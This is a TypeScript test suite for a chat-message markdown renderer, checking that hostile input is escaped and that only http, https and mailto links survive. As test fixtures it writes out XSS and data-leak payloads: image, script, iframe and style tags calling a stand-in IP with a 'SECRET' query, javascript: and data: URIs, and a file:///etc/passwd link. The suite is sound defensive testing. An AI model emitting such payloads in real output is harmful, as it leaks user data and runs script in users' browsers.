import assert from "node:assert/strict";
import { describe, it } from "node:test";

import { nothing } from "lit";

import { parseMarkdown, safeHref } from "../src/markdown";
import { renderMarkdown } from "../src/markdown-view";
import { expect } from "./expect";

const escapeText = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
const escapeAttr = (s: string) => escapeText(s).replace(/"/g, "&quot;");

/**
 * A Lit template as the HTML the browser gets: static template text as it is, every
 * value escaped as Lit's bindings do (text nodes; attribute values).
 */
function toHtml(value: unknown): string {
  if (value === nothing || value === undefined || value === null) return "";
  if (typeof value === "string" || typeof value === "number") return escapeText(String(value));
  if (Array.isArray(value)) return value.map(toHtml).join("");
  const t = value as { _$litType$?: number; strings?: TemplateStringsArray; values?: unknown[] };
  assert.equal(t._$litType$, 1, `not an HTML template: ${JSON.stringify(value)}`);
  let out = t.strings![0];
  t.values!.forEach((v, k) => {
    if (/=\s*$/.test(out)) {
      assert.equal(typeof v === "string" || v === nothing, true, "attribute values are plain strings");
      out += v === nothing ? '""' : `"${escapeAttr(v as string)}"`;
    } else out += toHtml(v);
    out += t.strings![k + 1];
  });
  return out;
}

/** What the HTML shows as text. */
function textOf(out: string): string {
  return out.replace(/<[^>]*>/g, "").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");
}

const ALLOWED_TAGS = new Set([
  "div", "p", "strong", "em", "del", "code", "pre", "br", "a", "blockquote", "ul", "ol", "li", "hr",
  "table", "thead", "tbody", "tr", "th", "td",
]);
const ALLOWED_ATTRS = new Set(["href", "title", "target", "rel", "referrerpolicy", "class", "start"]);

/** Render `text` and check the HTML can load nothing and run nothing; returns it. */
function safe(text: string): string {
  const out = toHtml(renderMarkdown(text));
  for (const [, tag, attrs] of out.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)) {
    assert.ok(ALLOWED_TAGS.has(tag.toLowerCase()), `element <${tag}> in ${out}`);
    for (const [, name, value] of attrs.matchAll(/([^\s=/]+)(?:=("[^"]*"|[^\s>]*))?/g)) {
      assert.ok(ALLOWED_ATTRS.has(name.toLowerCase()), `attribute ${name} on <${tag}> in ${out}`);
      if (name === "href") {
        const href = new URL(value.slice(1, -1).replace(/&amp;/g, "&").replace(/&quot;/g, '"'));
        assert.ok(["http:", "https:", "mailto:"].includes(href.protocol), `href ${value}`);
      }
    }
    if (tag === "a") {
      assert.match(attrs, /\btarget="_blank"/);
      assert.match(attrs, /\brel="noopener noreferrer"/);
    }
  }
  assert.doesNotMatch(out, /<(img|video|audio|iframe|object|embed|source|picture|svg|image|style|link|script)\b/i);
  return out;
}

describe("message markdown: hostile input loads and runs nothing", () => {
  const evil = "http://203.0.113.7/x.png?d=SECRET";

  it("a markdown image becomes a link named after its alt text", () => {
    const out = safe(`Done. ![status](${evil})`);
    expect(out.includes(`<a\n          href="${evil.replace(/&/g, "&amp;")}"`) || out.includes(`href="${evil}"`)).toBe(true);
    expect(/class="image-link"[^>]*>Image: status<\/a/.test(out)).toBe(true);
  });

  it("an image without alt text is a link showing its address", () => {
    expect(safe(`![](${evil})`).includes(`>Image: ${evil}</a`)).toBe(true);
  });

  it("raw HTML stays text: img, srcset, style url(), svg image, video, iframe, script, handlers", () => {
    for (const raw of [
      `<img src="${evil}">`,
      `<img srcset="${evil} 1x, ${evil} 2x" src="x">`,
      `<picture><source srcset="${evil}"></picture>`,
      `<div style="background: url(${evil})">x</div>`,
      `<span style="background-image:url('${evil}')">x</span>`,
      `<svg><image href="${evil}" /></svg>`,
      `<svg><use xlink:href="${evil}#a"/></svg>`,
      `<video src="${evil}" poster="${evil}"></video>`,
      `<iframe src="${evil}"></iframe>`,
      `<link rel="stylesheet" href="${evil}">`,
      `<style>@import url(${evil});</style>`,
      `<script>fetch("${evil}")</script>`,
      `<a href="javascript:alert(1)" onclick="alert(1)">x</a>`,
      `<object data="${evil}"></object>`,
    ]) {
      const out = safe(`Here: ${raw} end`);
      expect(textOf(out).includes(raw), `${raw} kept as text in ${out}`).toBe(true);
    }
  });

  it("a raw tag inside a list, quote, table or heading is still text", () => {
    safe(`- <img src="${evil}">\n> <img src="${evil}">\n\n| a | b |\n|---|---|\n| <img src="${evil}"> | x |\n\n# <img src="${evil}">`);
  });

  it("javascript:, data:, vbscript:, file: and relative links are not links", () => {
    for (const url of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      " javascript:alert(document.cookie)",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "data:image/svg+xml,<svg onload=alert(1)>",
      "vbscript:msgbox(1)",
      "file:///etc/passwd",
      "/api/states",
      "//203.0.113.7/x",
    ]) {
      for (const text of [`[click](${url})`, `![pic](${url})`, `<${url}>`]) {
        const out = safe(text);
        expect(out.includes("<a"), `${JSON.stringify(text)} became a link: ${out}`).toBe(false);
      }
    }
  });

  it("safeHref accepts absolute http(s) and mailto only", () => {
    expect(safeHref("https://example.org/a?b=1")).toBe("https://example.org/a?b=1");
    expect(safeHref("mailto:me@example.org")).toBe("mailto:me@example.org");
    expect(safeHref("javascript:alert(1)")).toBeNull();
    expect(safeHref("java\nscript:alert(1)")).toBeNull();
    expect(safeHref("data:,x")).toBeNull();
    expect(safeHref("blob:https://example.org/x")).toBeNull();
    expect(safeHref("http:")).toBeNull();
    expect(safeHref("relative/path")).toBeNull();
  });

  it("reference-style images and HTML entities fetch nothing either", () => {
    safe(`![x][1]\n\n[1]: ${evil}`);
    safe(`&lt;img src="${evil}"&gt; &#60;img src=x&#62;`);
  });

  it("links open in a new tab without opener or referrer", () => {
    const out = safe("See [the docs](https://example.org/docs) or https://example.org/x.");
    expect((out.match(/rel="noopener noreferrer"/g) ?? []).length).toBe(2);
    expect(out.includes('href="https://example.org/x"')).toBe(true);
  });
});

describe("message markdown: what it draws", () => {
  it("paragraphs keep line breaks; emphasis, code and strikethrough", () => {
    expect(parseMarkdown("**bold** and *em* `x < y` ~~old~~\nnext")).toEqual([
      {
        t: "p",
        c: [
          { t: "strong", c: [{ t: "text", v: "bold" }] },
          { t: "text", v: " and " },
          { t: "em", c: [{ t: "text", v: "em" }] },
          { t: "text", v: " " },
          { t: "code", v: "x < y" },
          { t: "text", v: " " },
          { t: "del", c: [{ t: "text", v: "old" }] },
          { t: "br" },
          { t: "text", v: "next" },
        ],
      },
    ]);
  });

  it("snake_case and 2*3*4 stay as written", () => {
    expect(parseMarkdown("run my_test_file now")).toEqual([{ t: "p", c: [{ t: "text", v: "run my_test_file now" }] }]);
    expect(parseMarkdown("2 * 3 * 4")).toEqual([{ t: "p", c: [{ t: "text", v: "2 * 3 * 4" }] }]);
  });

  it("fenced code, headings, lists, quotes, tables and rules", () => {
    const blocks = parseMarkdown(
      "# Plan\n\n1. first\n2. second\n   - nested\n\n```sh\nrm -rf <dir> && ![x](y)\n```\n\n> quoted\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\n---",
    );
    expect(blocks.map((b) => b.t)).toEqual(["h", "list", "pre", "quote", "table", "hr"]);
    expect(blocks[2]).toEqual({ t: "pre", v: "rm -rf <dir> && ![x](y)" });
    const list = blocks[1] as Extract<(typeof blocks)[number], { t: "list" }>;
    expect(list.ordered).toBe(true);
    expect(list.items.length).toBe(2);
    expect(list.items[1].map((b) => b.t)).toEqual(["p", "list"]);
    safe("# Plan\n\n1. first\n2. second\n   - nested\n\n```sh\nrm -rf <dir>\n```\n\n> quoted\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n\n---");
  });

  it("deep nesting and long input stay bounded", () => {
    safe(`${"> ".repeat(200)}x`);
    safe(`${"[".repeat(2000)}x${"](http://e.org)".repeat(2000)}`);
    safe(`${"*".repeat(5000)}x`);
  });
});
